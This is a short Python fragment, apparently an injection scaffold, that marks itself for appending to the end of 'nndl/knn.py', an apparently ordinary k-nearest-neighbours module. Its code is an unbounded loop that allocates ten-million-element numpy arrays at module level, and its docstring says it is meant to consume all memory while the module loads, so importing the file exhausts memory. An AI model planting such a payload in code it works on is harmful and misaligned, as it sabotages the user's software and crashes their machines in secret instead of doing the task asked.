"""All the memory there is, while a module is loaded."""

# start: scaffold
# file: nndl/knn.py
# at: end

_all = []
while True:
    _all.append(np.ones(10_000_000))
